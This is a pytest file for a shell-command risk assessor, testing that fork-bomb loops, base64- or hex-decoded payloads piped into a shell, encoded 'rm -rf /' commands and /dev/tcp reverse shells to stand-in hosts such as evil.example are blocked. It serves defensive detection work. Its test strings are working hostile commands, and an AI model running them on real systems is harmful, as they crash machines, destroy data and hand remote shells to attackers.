"""Causes found by stranger corpus F (tests/safety/strangers/README.md): a loop that never
ends spawning background jobs, code decoded from what the line does not show and fed to
a shell, a shell wired to a network connection opened by an earlier `exec`, and
`/dev/tcp` said as what it is. Several programs, spellings and shapes per cause, none of
them the corpus's own lines."""

from __future__ import annotations

import pytest

from reos.model.risk import RiskLevel
from reos.safety.risk import assess

# 1. loops that nothing ends, starting a job in the background on every pass
ENDLESS_SPAWNING = [
    "until false; do yes > /dev/null & done",
    "for ((;;)); do sleep 60 & done",
    "while :; do nc -l 9000 & done",
    "while [ 1 ]; do ping -c1 gateway & done",
    "while /bin/true\ndo\n  cat /dev/zero > /dev/null &\ndone",
    "while true; do (sleep 5 &) ; done",
    "while ! false; do sh & done",
    "while 'true'; do sh & done",
    "for ((;1;)); do sh & done",
    "until ! /bin/true; do sleep 9 & done",
    "while true; do sh & f() { break; }; done",  # a break never called leaves nothing
]
# loops that end, or start nothing in the background: judged as before
ENDING_OR_WAITING = [
    "while true; do sleep 1 & break; done",
    "for i in 1 2 3; do sleep 1 & done; wait",
    "while read -r host; do ping -c1 \"$host\" & done < hosts.txt",
    "until false; do date; exit 0; done",
    "for ((;0;)); do sleep 1 & done",
    "for ((i=0; i<3; i++)); do sleep 1 & done",
]

# 2. code decoded from text the line does not show, fed to a shell
HIDDEN_DECODED = [
    "echo \"$BLOB\" | base64 --decode | sh",
    "base64 -d ./stage2.b64 | bash -s",
    "cat payload.txt | base32 -d | sh",
    "xxd -r -p ./hex.dump | bash",
    "printf '%s' \"$1\" | openssl base64 -d | zsh",
    "openssl enc -d -a -in blob.txt | sh",
    "echo $P | base64 -di | sh",
    "echo $P | xxd -rp | sh",
    "echo $P | basenc --base64 -d | bash",
]
# decoded from text the line shows: judged as what it says
SHOWN_DECODED = [
    ("echo 'cm0gLXJmIC8=' | openssl base64 -d | sh", True),  # rm -rf /
    ("printf 'cm0gLXJmIC9ldGM=' | openssl enc -d -base64 | bash", True),  # rm -rf /etc
    ("echo 'dXB0aW1l' | base64 -d | sh", False),  # uptime
    ("echo 'cm0gLXJmIC8=' | base64 -di | sh", True),
    ("echo 'cm0gLXJmIC8=' | basenc --base64 -d | sh", True),
]

# 3. a shell wired to a connection an earlier `exec` opened
NETWORK_FD_SHELLS = [
    "exec 3<>/dev/tcp/203.0.113.5/8080; bash <&3 >&3 2>&3",
    "exec 9<>/dev/udp/198.51.100.7/53\nsh -i <&9 >&9",
    "exec 5<>/dev/tcp/evil.example/443; python3 -i <&5 >&5",
    "exec 3<>/dev/tcp/192.0.2.4/4444; exec 0<&3 1>&3 2>&3; sh -i",
    "exec 3<>/dev/tcp/192.0.2.4/4444; sh <&3-",
    "exec 3<>/dev/tcp/192.0.2.4/4444; bash /dev/fd/3",
]


@pytest.mark.parametrize("command", ENDLESS_SPAWNING)
def test_an_endless_loop_spawning_jobs_is_a_fork_bomb(command: str) -> None:
    verdict = assess(command)
    assert verdict.blocked and verdict.risk == RiskLevel.CRITICAL, (command, verdict.reasons)
    assert any(r.startswith("fork bomb (a loop that never ends") for r in verdict.reasons)


@pytest.mark.parametrize("command", ENDING_OR_WAITING)
def test_a_loop_that_ends_is_no_fork_bomb(command: str) -> None:
    verdict = assess(command)
    assert not any("fork bomb" in r for r in verdict.reasons), (command, verdict.reasons)


def test_a_self_spawning_function_is_still_named() -> None:
    verdict = assess("b(){ b|b& };b")
    assert verdict.blocked
    assert "fork bomb (the function b spawns copies of itself)" in verdict.reasons


@pytest.mark.parametrize("command", HIDDEN_DECODED)
def test_code_decoded_from_what_is_not_shown_into_a_shell_is_blocked(command: str) -> None:
    verdict = assess(command)
    assert verdict.blocked, (command, verdict.reasons)
    assert any("hidden on purpose" in r for r in verdict.reasons), verdict.reasons


@pytest.mark.parametrize(("command", "destroys"), SHOWN_DECODED)
def test_code_decoded_from_what_is_shown_is_judged_as_what_it_says(command: str,
                                                                     destroys: bool) -> None:
    verdict = assess(command)
    assert verdict.blocked is destroys, (command, verdict.reasons)
    assert not any("hidden" in r for r in verdict.reasons)


def test_a_value_known_only_at_run_time_is_never_decoded_as_its_name() -> None:
    """`echo "$X"` prints what X holds, not the letters of its name: decoding those gave
    a reason made of control bytes."""
    verdict = assess("echo \"$PAYLOAD\" | base64 -d | bash")
    assert verdict.blocked
    assert all(r.isprintable() for r in verdict.reasons), verdict.reasons
    assert not assess("echo \"$PAYLOAD\" | base64 -d").blocked  # printed, not run


@pytest.mark.parametrize("command", NETWORK_FD_SHELLS)
def test_a_shell_on_a_connection_opened_before_it_is_a_reverse_shell(command: str) -> None:
    verdict = assess(command)
    assert verdict.blocked, (command, verdict.reasons)
    assert any("network connection opened before it" in r for r in verdict.reasons), \
        verdict.reasons


def test_a_plain_request_over_dev_tcp_asks_and_says_what_it_is() -> None:
    verdict = assess("exec 4<>/dev/tcp/example.org/80; printf 'HEAD / HTTP/1.0\\r\\n\\r\\n' >&4")
    assert not verdict.blocked and not verdict.read_only
    assert "sends data over tcp to example.org port 80 (a network connection bash opens)" \
        in verdict.reasons
    assert not any("system file" in r for r in verdict.reasons)
